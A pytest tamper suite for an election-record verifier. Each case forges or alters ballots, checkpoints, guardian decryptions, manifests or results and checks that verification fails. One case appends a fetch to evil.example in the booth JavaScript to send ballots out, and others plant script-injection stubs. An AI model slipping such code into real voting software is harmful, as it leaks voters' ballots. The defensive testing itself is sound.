"""The tamper suite: every change to a record must fail the check that guards it.

Each case copies the untouched record, changes one thing as an attacker (or a buggy service)
would, and runs the verifier. Where the change can only show in one place, every other check
must still pass; a change that necessarily breaks several things names them all.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from crypto.ballot import make_signed_ballot
from crypto.canonical import b64_encode, canonical_json
from crypto.checkpoint import Checkpoint, sign_checkpoint
from crypto.envelope import sign_document
from crypto.group import Point, Scalar, base_mul
from crypto.note import add_signatures
from crypto.signing import Context, SigningKey
from tests.verify_helpers import (
    COMMISSION_NAME,
    ORIGIN,
    Built,
    audit_line,
    build_record,
    checkpoint_of,
    lines_of,
    notes_of,
    read_json,
    reseal_log,
    resign_result,
    sign_log_checkpoint,
    verify,
    write_json,
    write_lines,
    write_notes,
)

ALL = {f"V{i}" for i in range(1, 10)}


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    built = build_record(tmp_path_factory.mktemp("tamper"))
    assert verify(built.record).ok
    return built


# -- small tools -------------------------------------------------------------------------------


def flip(hex_text: str, position: int = -1) -> str:
    """Flip the lowest bit of one hex digit."""
    chars = list(hex_text)
    chars[position] = format(int(chars[position], 16) ^ 1, "x")
    return "".join(chars)


def log(record: Path, unit: str = "AAA", round_no: int = 1) -> Path:
    return record / "units" / unit / str(round_no)


def edit_ballot(record: Path, index: int, change: Callable[[dict[str, Any]], None]) -> None:
    path = log(record) / "ballots.jsonl"
    lines = lines_of(path)
    ballot = json.loads(lines[index])
    change(ballot)
    lines[index] = canonical_json(ballot)
    write_lines(path, lines)


def edit_json(path: Path, change: Callable[[Any], None]) -> None:
    doc = read_json(path)
    change(doc)
    write_json(path, doc)


def edit_final(built: Built, record: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """Edit the final result's payload and sign it again with the real commission key."""
    path = record / "results" / "final.json"
    edit_json(path, lambda doc: change(doc["payload"]))
    resign_result(built, path)


def unit_result(payload: dict[str, Any], unit: str) -> dict[str, Any]:
    return next(u for u in payload["units"] if u["unit"] == unit)


def new_ballot(built: Built, record: Path, elector: str, key: SigningKey | None = None) -> bytes:
    """A well-formed ballot for round 1 of AAA, signed by ``key`` (default: the elector's)."""
    manifest = read_json(record / "manifest.json")["payload"]
    from crypto.canonical import hash_json

    unit = next(u for u in manifest["units"] if u["code"] == "AAA")
    ballot = make_signed_ballot(
        hash_json("kz-tally/v1/manifest", manifest),
        "AAA",
        1,
        elector,
        [c["id"] for c in unit["candidates"]],
        "AAA-C2",
        Point.from_hex(manifest["election_key"]),
        key or built.sim.keys[elector],
    )
    return canonical_json(ballot)


def append_line(record: Path, line: bytes) -> None:
    path = log(record) / "ballots.jsonl"
    write_lines(path, [*lines_of(path), line])


def edit_notes(record: Path, change: Callable[[list[str]], list[str] | None]) -> None:
    path = log(record) / "checkpoints.txt"
    notes = notes_of(path)
    write_notes(path, change(notes) or notes)


# -- the cases ---------------------------------------------------------------------------------


def t_ciphertext_bit(built: Built, record: Path) -> None:
    def change(b: dict[str, Any]) -> None:
        ct = b["selections"][0]["ciphertext"]
        ct["b"] = flip(ct["b"], 1)

    edit_ballot(record, 1, change)


def t_proof_bit(built: Built, record: Path) -> None:
    def change(b: dict[str, Any]) -> None:
        b["selections"][1]["proof"]["c0"] = flip(b["selections"][1]["proof"]["c0"], 0)

    edit_ballot(record, 2, change)


def t_sum_proof_bit(built: Built, record: Path) -> None:
    edit_ballot(record, 3, lambda b: b["sum_proof"].update(u1=flip(b["sum_proof"]["u1"], 0)))


def t_signature_bit(built: Built, record: Path) -> None:
    edit_ballot(record, 4, lambda b: b.update(signature=flip(b["signature"], 0)))


def t_elector_id(built: Built, record: Path) -> None:
    # AAA-E0015 is on the roll but did not vote: the ballot is not theirs
    edit_ballot(record, 0, lambda b: b.update(elector="AAA-E0015"))


def t_elector_of_other_unit(built: Built, record: Path) -> None:
    edit_ballot(record, 0, lambda b: b.update(elector="BBB-E0020"))


def t_drop_ballot(built: Built, record: Path) -> None:
    path = log(record) / "ballots.jsonl"
    lines = lines_of(path)
    del lines[3]
    write_lines(path, lines)


def t_not_on_roll(built: Built, record: Path) -> None:
    append_line(record, new_ballot(built, record, "AAA-E9999", SigningKey.generate()))


def t_second_ballot_signed_and_resealed(built: Built, record: Path) -> None:
    # validly signed by AAA-E0001, who voted already; the log is even re-signed with its key
    append_line(record, new_ballot(built, record, "AAA-E0001"))
    reseal_log(built, record, "AAA", 1)


def t_reorder(built: Built, record: Path) -> None:
    path = log(record) / "ballots.jsonl"
    lines = lines_of(path)
    lines[0], lines[1] = lines[1], lines[0]
    write_lines(path, lines)


def t_checkpoint_root(built: Built, record: Path) -> None:
    def change(notes: list[str]) -> None:
        body = notes[1].split("\n")
        body[2] = b64_encode(bytes(32))
        notes[1] = "\n".join(body)

    edit_notes(record, change)


def t_checkpoint_other_key(built: Built, record: Path) -> None:
    def change(notes: list[str]) -> None:
        cp = checkpoint_of(notes[1])
        notes[1] = sign_checkpoint(cp, [(f"{ORIGIN}/AAA", SigningKey.generate())])

    edit_notes(record, change)


def t_fork(built: Built, record: Path) -> None:
    # a second checkpoint of size 4, with another root, signed with the real log key
    def change(notes: list[str]) -> None:
        cp = checkpoint_of(notes[1])
        forged = sign_log_checkpoint(built, "AAA", 1, cp.size, bytes(32))
        notes.insert(2, forged)

    edit_notes(record, change)


def t_rewritten_checkpoint(built: Built, record: Path) -> None:
    # the size-8 checkpoint replaced by one over another history, with the real key
    def change(notes: list[str]) -> None:
        cp = checkpoint_of(notes[2])
        notes[2] = sign_log_checkpoint(built, "AAA", 1, cp.size, bytes(range(32)))

    edit_notes(record, change)


def t_duplicate_checkpoint(built: Built, record: Path) -> None:
    edit_notes(record, lambda notes: [*notes[:2], notes[1], *notes[2:]])


def t_first_checkpoint_dropped(built: Built, record: Path) -> None:
    edit_notes(record, lambda notes: notes[1:])


def t_final_not_countersigned(built: Built, record: Path) -> None:
    def change(notes: list[str]) -> None:
        lines = notes[-1].split("\n")
        notes[-1] = "\n".join(line for line in lines if "/commission " not in line)

    edit_notes(record, change)


def t_early_countersign(built: Built, record: Path) -> None:
    def change(notes: list[str]) -> None:
        notes[1] = add_signatures(notes[1], [(COMMISSION_NAME, built.commission_key())])

    edit_notes(record, change)


def _resign(built: Built, note: str, final: bool, at: str | None = None,
            countersign: bool = False) -> str:
    cp = checkpoint_of(note)
    signed = sign_log_checkpoint(built, "AAA", 1, cp.size, cp.root, final=final,
                                 at=at or "2023-01-14T05:00:00Z")
    if countersign:
        signed = add_signatures(signed, [(COMMISSION_NAME, built.commission_key())])
    return signed


def t_final_line_dropped(built: Built, record: Path) -> None:
    # the last checkpoint, re-signed by both keys, but without the 'final' line
    def change(notes: list[str]) -> None:
        notes[-1] = _resign(built, notes[-1], final=False, countersign=True)

    edit_notes(record, change)


def t_final_before_the_end(built: Built, record: Path) -> None:
    # an earlier checkpoint passed off as final: re-signed with a 'final' line
    def change(notes: list[str]) -> None:
        notes[1] = _resign(built, notes[1], final=True)

    edit_notes(record, change)


def t_checkpoint_without_time(built: Built, record: Path) -> None:
    def change(notes: list[str]) -> None:
        cp = checkpoint_of(notes[1])
        bare = Checkpoint(cp.origin, cp.size, cp.root)
        notes[1] = sign_checkpoint(bare, [(f"{ORIGIN}/AAA", built.log_key("AAA"))])

    edit_notes(record, change)


def t_time_goes_back(built: Built, record: Path) -> None:
    def change(notes: list[str]) -> None:
        notes[1] = _resign(built, notes[1], final=False, at="2099-01-01T00:00:00Z")

    edit_notes(record, change)


def t_reordered_and_resealed(built: Built, record: Path) -> None:
    # the lot-grinding attack: reorder entries, re-sign every checkpoint and keep the
    # guardians' partial decryptions; they were made for the old final checkpoint
    path = log(record) / "ballots.jsonl"
    lines = lines_of(path)
    lines[-1], lines[-2] = lines[-2], lines[-1]
    write_lines(path, lines)
    reseal_log(built, record, "AAA", 1)
    folder = log(record)
    final = checkpoint_of(notes_of(folder / "checkpoints.txt")[-1])
    doc = read_json(folder / "tally.json")
    doc["final_checkpoint"] = {"size": final.size, "root": final.root.hex()}
    write_json(folder / "tally.json", doc)


def resign_partial(built: Built, signed: dict[str, Any], guardian: int) -> dict[str, Any]:
    """The statement of ``signed`` (as edited), signed again by guardian ``guardian``'s key."""
    from scripts.builders.insecure import read_identity

    identity = read_identity(built.data_dir, guardian)
    return sign_document(signed["payload"], identity, Context.GUARDIAN)


def t_reordered_resealed_and_resigned(built: Built, record: Path) -> None:
    # the same with the decrypting guardians colluding: they sign their old partials again for
    # the new final checkpoint, but the partials' proofs are bound to the old one
    t_reordered_and_resealed(built, record)
    doc = read_json(log(record) / "tally.json")
    for i, signed in enumerate(doc["partials"]):
        signed["payload"]["final_checkpoint"] = doc["final_checkpoint"]
        doc["partials"][i] = resign_partial(built, signed, signed["payload"]["partial"]["guardian"])
    write_json(log(record) / "tally.json", doc)


def t_truncate_after_final(built: Built, record: Path) -> None:
    path = log(record) / "ballots.jsonl"
    write_lines(path, lines_of(path)[:-1])


def t_append_after_final(built: Built, record: Path) -> None:
    # a perfectly valid ballot of an elector who had not voted, added after the close
    append_line(record, new_ballot(built, record, "AAA-E0015"))


def t_garbled_line(built: Built, record: Path) -> None:
    path = log(record) / "ballots.jsonl"
    lines = lines_of(path)
    lines[2] = b'{"election": not json'
    write_lines(path, lines)


def t_non_canonical_line(built: Built, record: Path) -> None:
    path = log(record) / "ballots.jsonl"
    lines = lines_of(path)
    lines[2] = b"{ " + lines[2][1:]
    write_lines(path, lines)


def t_swap_units_logs(built: Built, record: Path) -> None:
    a, c = log(record, "AAA"), log(record, "CCC")
    tmp = record / "swap"
    a.rename(tmp)
    c.rename(a)
    tmp.rename(c)


def t_extra_unit_folder(built: Built, record: Path) -> None:
    shutil.copytree(log(record), log(record, "ZZZ"))


def t_round_2_for_elected_unit(built: Built, record: Path) -> None:
    shutil.copytree(log(record), log(record, "AAA", 2))


def t_runoff_round_removed(built: Built, record: Path) -> None:
    shutil.rmtree(log(record, "BBB", 2))


def t_unexpected_top_level(built: Built, record: Path) -> None:
    (record / "extra.txt").write_text("hello\n", encoding="utf-8")


BOOTH_JS = Path("booth_code/static/js/booth.js")


def t_booth_file_changed(built: Built, record: Path) -> None:
    """The record's booth.js sends every ballot elsewhere: not the code the manifest sealed."""
    path = record / BOOTH_JS
    path.write_bytes(path.read_bytes() + b"\nroot.fetch('https://evil.example/', {});\n")


def t_booth_file_removed(built: Built, record: Path) -> None:
    (record / BOOTH_JS).unlink()


def t_booth_file_added(built: Built, record: Path) -> None:
    (record / "booth_code" / "static" / "js" / "extra.js").write_text("alert(1)\n", "utf-8")


def t_tally_sum_edited(built: Built, record: Path) -> None:
    def change(t: dict[str, Any]) -> None:
        t["encrypted"][0] = t["encrypted"][1]

    edit_json(log(record) / "tally.json", change)


def t_tally_final_checkpoint(built: Built, record: Path) -> None:
    edit_json(
        log(record) / "tally.json", lambda t: t["final_checkpoint"].update(root="00" * 32)
    )


def t_partial_changed(built: Built, record: Path) -> None:
    # a guardian signs a partial decryption that is not its share of the tally
    def change(t: dict[str, Any]) -> None:
        partials = [p["payload"]["partial"] for p in t["partials"]]
        partials[0]["shares"][0] = partials[1]["shares"][0]
        t["partials"][0] = resign_partial(built, t["partials"][0], partials[0]["guardian"])

    edit_json(log(record) / "tally.json", change)


def t_partial_signature_missing(built: Built, record: Path) -> None:
    # the partial as the tally kept it before issue 24: no guardian answers for it
    def change(t: dict[str, Any]) -> None:
        t["partials"][0] = t["partials"][0]["payload"]["partial"]

    edit_json(log(record) / "tally.json", change)


def t_partial_signed_by_another_guardian(built: Built, record: Path) -> None:
    # guardian 1's partial, signed by guardian 2's identity key
    def change(t: dict[str, Any]) -> None:
        first = t["partials"][0]
        assert first["payload"]["partial"]["guardian"] == 1
        t["partials"][0] = resign_partial(built, first, 2)

    edit_json(log(record) / "tally.json", change)


def t_partial_signed_by_a_stranger(built: Built, record: Path) -> None:
    def change(t: dict[str, Any]) -> None:
        t["partials"][0] = sign_document(
            t["partials"][0]["payload"], SigningKey.generate(), Context.GUARDIAN
        )

    edit_json(log(record) / "tally.json", change)


def t_partial_values_not_signed(built: Built, record: Path) -> None:
    # the signed statement kept, a value of its partial changed: the signature no longer holds
    def change(t: dict[str, Any]) -> None:
        partials = [p["payload"]["partial"] for p in t["partials"]]
        partials[0]["proofs"][0] = partials[1]["proofs"][0]

    edit_json(log(record) / "tally.json", change)


def t_partial_signed_for_another_round(built: Built, record: Path) -> None:
    # guardian 1's genuine signed partial of BBB round 1, put in AAA round 1's tally
    other = read_json(log(record, "BBB") / "tally.json")["partials"][0]
    edit_json(log(record) / "tally.json", lambda t: t["partials"].__setitem__(0, other))


def t_guardian_dropped(built: Built, record: Path) -> None:
    edit_json(log(record) / "tally.json", lambda t: t.update(partials=t["partials"][:1]))


def t_tally_counts_edited(built: Built, record: Path) -> None:
    def change(t: dict[str, Any]) -> None:
        t["counts"]["AAA-C1"] -= 1
        t["counts"]["AAA-C2"] += 1

    edit_json(log(record) / "tally.json", change)


def void_partials(built: Built, record: Path) -> list[dict[str, Any]]:
    """Genuine partial decryptions of CCC's tally (no quorum) from two real guardians' shares,
    as colluding guardians and operator could make them."""
    from crypto.canonical import hash_json
    from crypto.decryption import decryption_context, partial_decrypt
    from crypto.elgamal import Ciphertext
    from scripts.builders.insecure import read_identity, read_share
    from tally_service.service.tally import signed_statement

    t = read_json(log(record, "CCC") / "tally.json")
    manifest = read_json(record / "manifest.json")["payload"]
    final = t["final_checkpoint"]
    context = decryption_context(
        hash_json("kz-tally/v1/manifest", manifest), "CCC", 1, f"{ORIGIN}/CCC/1",
        final["size"], bytes.fromhex(final["root"]),
    )
    cts = [Ciphertext.from_json(c) for c in t["encrypted"]]
    return [
        signed_statement(
            t, partial_decrypt(read_share(built.data_dir, g), g, cts, context),
            read_identity(built.data_dir, g),
        )
        for g in (1, 2)
    ]


def t_void_round_decrypted(built: Built, record: Path) -> None:
    partials = void_partials(built, record)
    edit_json(log(record, "CCC") / "tally.json", lambda t: t.update(partials=partials))


def t_void_round_counts(built: Built, record: Path) -> None:
    def change(t: dict[str, Any]) -> None:
        # what the chooser gave CCC's 5 electors: C1 C1 C2 blank C1
        t.update(counts={"CCC-C1": 3, "CCC-C2": 1}, blank=1)

    edit_json(log(record, "CCC") / "tally.json", change)


def t_void_round_figures(built: Built, record: Path) -> None:
    def change(p: dict[str, Any]) -> None:
        unit_result(p, "CCC")["rounds"][0].update(
            votes={"CCC-C1": 3, "CCC-C2": 1}, blank=1, shares={"CCC-C1": "60.00", "CCC-C2": "20.00"}
        )

    edit_final(built, record, change)


def t_ceremony_commitment(built: Built, record: Path) -> None:
    def change(k: dict[str, Any]) -> None:
        records = [m["payload"]["body"]["record"] for m in k["reveal"]]
        records[0]["commitments"][1] = records[1]["commitments"][1]

    edit_json(record / "key_ceremony.json", change)


def t_ceremony_reveal_replaced(built: Built, record: Path) -> None:
    edit_json(record / "key_ceremony.json", lambda k: k["reveal"].__setitem__(0, k["reveal"][1]))


def t_ceremony_confirmation_dropped(built: Built, record: Path) -> None:
    edit_json(record / "key_ceremony.json", lambda k: k.update(confirm=k["confirm"][:-1]))


def t_ceremony_qual_shrunk(built: Built, record: Path) -> None:
    edit_json(record / "key_ceremony.json", lambda k: k.update(qual=k["qual"][:-1]))


def t_ceremony_complaint_dropped(built: Built, record: Path) -> None:
    edit_json(record / "key_ceremony.json", lambda k: k.update(complaints=k["complaints"][1:]))


def t_ceremony_joint_key_resealed(built: Built, record: Path) -> None:
    """The commission, holding its key, swaps in a joint key of its own in both files."""
    mine = base_mul(Scalar.random()).hex()
    edit_json(record / "key_ceremony.json", lambda k: k.update(joint_key=mine))
    doc = read_json(record / "manifest.json")
    doc["payload"]["election_key"] = mine
    write_json(
        record / "manifest.json",
        sign_document(doc["payload"], built.commission_key(), Context.MANIFEST),
    )


def t_ceremony_objection_forged(built: Built, record: Path) -> None:
    """An objection put in guardian 1's mouth (to discredit the ceremony), not signed by it."""
    from crypto.ceremony import sign_objection

    def change(k: dict[str, Any]) -> None:
        k["objections"].append(
            sign_objection(
                SigningKey.generate(), k["election_id"], bytes(32), 1, 1, "the list was wrong", ""
            )
        )

    edit_json(record / "key_ceremony.json", change)


def t_manifest_witnesses_swapped(built: Built, record: Path) -> None:
    """The commission, holding its key, names witnesses it runs after the guardians confirmed
    the ceremony (issue 24: the witness list is bound by the guardians)."""
    from crypto.cosignature import TYPE_ED25519, Cosigner
    from crypto.witness_policy import manifest_section

    mine = [Cosigner.generate(f"w{i}.commission.example/w", TYPE_ED25519).public for i in range(3)]
    doc = read_json(record / "manifest.json")
    doc["payload"]["witnesses"] = manifest_section(3, 1, mine)
    write_json(
        record / "manifest.json",
        sign_document(doc["payload"], built.commission_key(), Context.MANIFEST),
    )


def t_manifest_candidate(built: Built, record: Path) -> None:
    edit_json(
        record / "manifest.json",
        lambda m: m["payload"]["units"][0]["candidates"][0].update(name="Someone else"),
    )


def t_manifest_threshold_half(built: Built, record: Path) -> None:
    # a threshold of half the guardians (or fewer), signed by the commission
    doc = read_json(record / "manifest.json")
    doc["payload"]["guardians"]["n"] = 4
    write_json(
        record / "manifest.json",
        sign_document(doc["payload"], built.commission_key(), Context.MANIFEST),
    )


def t_manifest_roll_key_resigned(built: Built, record: Path) -> None:
    doc = read_json(record / "manifest.json")
    doc["payload"]["units"][0]["roll"][0]["public_key"] = SigningKey.generate().public.hex()
    write_json(
        record / "manifest.json",
        sign_document(doc["payload"], built.commission_key(), Context.MANIFEST),
    )


def t_results_count(built: Built, record: Path) -> None:
    def change(doc: dict[str, Any]) -> None:
        unit_result(doc["payload"], "AAA")["rounds"][0]["votes"]["AAA-C1"] += 1

    edit_json(record / "results" / "final.json", change)


def t_results_count_resigned(built: Built, record: Path) -> None:
    def change(p: dict[str, Any]) -> None:
        unit_result(p, "AAA")["rounds"][0]["votes"]["AAA-C2"] += 1

    edit_final(built, record, change)


def t_winner_changed(built: Built, record: Path) -> None:
    def change(p: dict[str, Any]) -> None:
        unit = unit_result(p, "AAA")
        unit["winner"] = unit["rounds"][0]["winner"] = "AAA-C2"

    edit_final(built, record, change)


def t_quorum_claimed(built: Built, record: Path) -> None:
    edit_final(built, record, lambda p: unit_result(p, "CCC")["rounds"][0].update(quorum=True))


def t_votes_as_boolean(built: Built, record: Path) -> None:
    # false == 0 in Python; the signed bytes differ, so the verifier must see it
    edit_final(built, record, lambda p: unit_result(p, "AAA")["rounds"][0]["votes"].update(
        {"AAA-C3": False}
    ))


def t_issued_at_not_a_time(built: Built, record: Path) -> None:
    edit_final(built, record, lambda p: p.update(issued_at="the day after"))


def t_preliminary_hash(built: Built, record: Path) -> None:
    edit_final(built, record, lambda p: p.update(preliminary="ab" * 32))


def t_results_foreign_key(built: Built, record: Path) -> None:
    resign_result(built, record / "results" / "final.json", SigningKey.generate())


def t_audit_forged(built: Built, record: Path) -> None:
    lines = [audit_line(built, record, 1), audit_line(built, record, 2, SigningKey.generate())]
    write_lines(record / "audit.jsonl", lines)


def t_audit_replayed(built: Built, record: Path) -> None:
    nonce = "ab" * 16
    lines = [audit_line(built, record, 1, nonce=nonce), audit_line(built, record, 2, nonce=nonce)]
    write_lines(record / "audit.jsonl", lines)


def _audit_with_repeat(built: Built, record: Path, repeat_of: Any, seq: int = 3) -> None:
    """Two requests, then a line repeating the second's very request, naming ``repeat_of``."""
    lines = [audit_line(built, record, 1), audit_line(built, record, 2)]
    repeat = dict(json.loads(lines[1]), seq=seq, repeat_of=repeat_of)
    write_lines(record / "audit.jsonl", [*lines, json.dumps(repeat, sort_keys=True).encode()])


def t_audit_repeat_of_a_list(built: Built, record: Path) -> None:
    _audit_with_repeat(built, record, [2])  # the verifier must fail it, not crash on it


def t_audit_repeat_of_true(built: Built, record: Path) -> None:
    # True == 1 in Python, but a line number is an int
    lines = [audit_line(built, record, 1)]
    repeat = dict(json.loads(lines[0]), seq=2, repeat_of=True)
    write_lines(record / "audit.jsonl", [*lines, json.dumps(repeat, sort_keys=True).encode()])


def t_audit_repeat_of_itself(built: Built, record: Path) -> None:
    _audit_with_repeat(built, record, 3)


def t_audit_repeat_of_a_later_line(built: Built, record: Path) -> None:
    lines = [audit_line(built, record, 1)]
    original = json.loads(audit_line(built, record, 3))
    lines += [json.dumps(dict(original, seq=2, repeat_of=3), sort_keys=True).encode(),
              json.dumps(original, sort_keys=True).encode()]
    write_lines(record / "audit.jsonl", lines)


def t_stray_results_file(built: Built, record: Path) -> None:
    shutil.copy(record / "results" / "final.json", record / "results" / "final2.json")


@dataclass(frozen=True)
class Case:
    tamper: Callable[[Built, Path], None]
    fails: frozenset[str]  # these checks must fail
    exact: bool = True  # and every other check must pass
    passes: frozenset[str] = frozenset()  # for inexact cases: these must still pass
    says: str = ""  # a word the first failure of the first failing check must contain


def case(
    tamper: Callable[[Built, Path], None],
    fails: str,
    exact: bool = True,
    passes: str = "",
    says: str = "",
) -> Any:
    c = Case(tamper, frozenset(fails.split()), exact, frozenset(passes.split()), says)
    return pytest.param(c, id=tamper.__name__[2:])


CASES = [
    case(t_ciphertext_bit, "V3 V4 V5"),
    case(t_proof_bit, "V3 V4", says="proof"),
    case(t_sum_proof_bit, "V3 V4", says="sum proof"),
    case(t_signature_bit, "V3 V4", says="signature"),
    case(t_elector_id, "V3 V4", says="signature"),
    case(t_elector_of_other_unit, "V3 V4", says="roll of BBB"),
    case(t_drop_ballot, "V4 V5", exact=False, passes="V1 V2 V3 V6 V7"),
    case(t_not_on_roll, "V3 V4 V5", exact=False, passes="V1 V2 V6", says="not on the roll"),
    case(t_second_ballot_signed_and_resealed, "V3 V5 V6", exact=False, passes="V1 V2 V4",
         says="second ballot"),
    case(t_final_line_dropped, "V4", exact=False, passes="V1 V2 V3 V5", says="'final' line"),
    case(t_final_before_the_end, "V4", says="nothing may follow the final"),
    case(t_checkpoint_without_time, "V4", says="no signed 'time'"),
    case(t_time_goes_back, "V4", says="must not go back"),
    case(t_reordered_and_resealed, "V6", exact=False, passes="V1 V2 V3 V4 V5",
         says="signed it for final checkpoint"),
    case(t_reordered_resealed_and_resigned, "V6", exact=False, passes="V1 V2 V3 V4 V5",
         says="proof of correct decryption fails"),
    case(t_reorder, "V4", says="root"),
    case(t_checkpoint_root, "V4", says="signature"),
    case(t_checkpoint_other_key, "V4", says="no signature from a known key"),
    case(t_fork, "V4", says="fork"),
    case(t_rewritten_checkpoint, "V4"),
    case(t_duplicate_checkpoint, "V4", says="duplicate"),
    case(t_first_checkpoint_dropped, "V4", says="size 0"),
    case(t_final_not_countersigned, "V4", says="commission"),
    case(t_early_countersign, "V4", says="countersigned"),
    case(t_truncate_after_final, "V4 V5", exact=False, passes="V1 V2 V3 V6 V7"),
    case(t_append_after_final, "V4 V5", exact=False, passes="V1 V2 V3 V6 V7",
         says="final checkpoint has size"),
    case(t_garbled_line, "V3 V4 V5", exact=False, passes="V1 V2 V6 V7", says="JSON"),
    case(t_non_canonical_line, "V3 V4", says="canonical"),
    case(t_swap_units_logs, "V3 V4", exact=False, passes="V1 V2"),
    case(t_extra_unit_folder, "V4", says="not in the manifest"),
    case(t_round_2_for_elected_unit, "V8", exact=False, passes="V1 V2",
         says="there is no runoff"),
    case(t_runoff_round_removed, "V8 V9", says="no round 2"),
    case(t_unexpected_top_level, "V1", says="unexpected"),
    case(t_booth_file_changed, "V1", says="not the code the commission sealed"),
    case(t_booth_file_removed, "V1", says="missing"),
    case(t_booth_file_added, "V1", says="does not name"),
    case(t_tally_sum_edited, "V5 V6 V9", says="not the sum"),
    case(t_tally_final_checkpoint, "V5 V9", says="final_checkpoint"),
    case(t_partial_changed, "V6 V9", says="proof"),
    case(t_partial_signature_missing, "V6 V9", says="not a guardian's signed partial"),
    case(t_partial_signed_by_another_guardian, "V6 V9",
         says="signed by guardian 2 but names guardian 1"),
    case(t_partial_signed_by_a_stranger, "V6 V9", says="no guardian identity key"),
    case(t_partial_values_not_signed, "V6 V9", says="does not verify"),
    case(t_partial_signed_for_another_round, "V6 V9", says="signed it for 'BBB' round 1"),
    case(t_guardian_dropped, "V6 V9", says="k = 2"),
    case(t_tally_counts_edited, "V6 V9", says="Lagrange"),
    case(t_void_round_decrypted, "V6 V9", says="without quorum was decrypted"),
    case(t_void_round_counts, "V6 V9", says="without quorum was decrypted"),
    case(t_void_round_figures, "V9", says="recomputed null"),
    case(t_ceremony_commitment, "V2", says="signature"),
    case(t_ceremony_reveal_replaced, "V2", says="two reveal messages"),
    case(t_ceremony_confirmation_dropped, "V2", says="did not confirm"),
    case(t_ceremony_qual_shrunk, "V2", says="qual is not what"),
    case(t_ceremony_complaint_dropped, "V2", says="has no complaints message"),
    case(t_ceremony_joint_key_resealed, "V2", exact=False, says="joint_key is not what"),
    case(t_ceremony_objection_forged, "V2", says="guardian 1's objection"),
    case(
        t_manifest_witnesses_swapped,
        "V2",
        exact=False,
        passes="V1",
        says="witnesses the guardians confirmed",
    ),
    case(t_manifest_candidate, "V1", exact=False, says="signature"),
    case(t_manifest_roll_key_resigned, "V3", exact=False, passes="V1 V2"),
    case(t_manifest_threshold_half, "V1", exact=False, says="not more than half"),
    case(t_results_count, "V9", says="signature"),
    case(t_results_count_resigned, "V9", says="recomputed"),
    case(t_winner_changed, "V9", says="recomputed"),
    case(t_quorum_claimed, "V9", says="recomputed"),
    case(t_votes_as_boolean, "V9", says="recomputed"),
    case(t_issued_at_not_a_time, "V9", says="issued_at"),
    case(t_preliminary_hash, "V9", says="hashes to"),
    case(t_results_foreign_key, "V9", says="unknown key"),
    case(t_stray_results_file, "V9", says="unexpected"),
    case(t_audit_forged, "V9", says="not signed by a commission key"),
    case(t_audit_replayed, "V9", says="nonce"),
    case(t_audit_repeat_of_a_list, "V9", says="repeat_of"),
    case(t_audit_repeat_of_true, "V9", says="repeat_of"),
    case(t_audit_repeat_of_itself, "V9", says="repeat_of"),
    case(t_audit_repeat_of_a_later_line, "V9", says="repeat_of"),
]


@pytest.mark.parametrize("c", CASES)
def test_tampering_is_caught(built: Built, tmp_path: Path, c: Case) -> None:
    record = tmp_path / "record"
    shutil.copytree(built.record, record)
    c.tamper(built, record)
    report = verify(record)
    failed = set(report.failed())
    assert not report.ok
    assert c.fails <= failed, f"expected {sorted(c.fails)} to fail, failed: {sorted(failed)}"
    if c.exact:
        assert failed == c.fails, _explain(report, failed - c.fails)
    assert not (c.passes & failed), _explain(report, c.passes & failed)
    for cid in c.fails:
        for failure in report[cid].failures:
            assert failure.where and failure.why
    if c.says:
        first = report[min(c.fails, key=lambda x: int(x[1:]))].failures
        text = " ".join(f.why for f in first)
        assert c.says in text, text


def _explain(report: Any, unexpected: set[str] | frozenset[str]) -> str:
    return "; ".join(
        f"{cid}: {f.where}: {f.why}" for cid in sorted(unexpected) for f in report[cid].failures
    )


def test_at_least_25_distinct_tamperings() -> None:
    assert len({c.values[0].tamper for c in CASES}) >= 25


def test_tampering_caught_with_a_process_pool(built: Built, tmp_path: Path) -> None:
    """The same verdicts when the proofs are checked by worker processes."""
    record = tmp_path / "record"
    shutil.copytree(built.record, record)
    t_signature_bit(built, record)
    t_second_ballot_signed_and_resealed(built, record)
    report = verify(record, jobs=2)
    whys = [f.why for f in report["V3"].failures]
    assert any("signature" in w for w in whys)
    assert any("second ballot" in w for w in whys)


def test_failures_are_capped_but_counted(built: Built, tmp_path: Path) -> None:
    record = tmp_path / "record"
    shutil.copytree(built.record, record)
    path = log(record, "BBB") / "ballots.jsonl"
    write_lines(path, [line.replace(b'"signature":"', b'"signature":"0', 1) for line in
                       lines_of(path)] * 2)
    report = verify(record)
    v3 = report["V3"]
    assert len(v3.failures) == 20
    assert v3.failure_count > 36


def test_checkpoint_helpers_roundtrip(built: Built) -> None:
    """The tamper tools themselves: re-sealing an untouched log leaves a valid record."""
    assert isinstance(checkpoint_of(notes_of(log(built.record) / "checkpoints.txt")[0]), Checkpoint)


def test_a_manifest_sealed_without_booth_files_is_noted_not_failed(
    built: Built, tmp_path: Path
) -> None:
    """Manifests sealed before issue 25 carry no ``booth`` section: V1 says the booth's code is
    not checked and fails nothing for it (the field is optional in the schema)."""
    from scripts.verifier.checks_manifest import NO_BOOTH, check_booth_code
    from scripts.verifier.record import Record
    from scripts.verifier.report import Report

    record = tmp_path / "record"
    shutil.copytree(built.record, record)
    shutil.rmtree(record / "booth_code")
    payload = dict(read_json(record / "manifest.json")["payload"])
    del payload["booth"]
    report = Report.new("old")
    check_booth_code(Record(record), payload, report["V1"])
    assert report["V1"].ok and NO_BOOTH in report["V1"].notes
    # files under booth_code/ that such a manifest does not name are not left unchecked
    (record / "booth_code").mkdir()
    (record / "booth_code" / "booth").write_text("<script>steal()</script>\n", "utf-8")
    check_booth_code(Record(record), payload, report["V1"])
    assert [f.where for f in report["V1"].failures] == ["booth_code/booth"]
    # while a sealed section with its files gone fails
    check_booth_code(Record(record), read_json(record / "manifest.json")["payload"], report["V1"])
    assert not report["V1"].ok
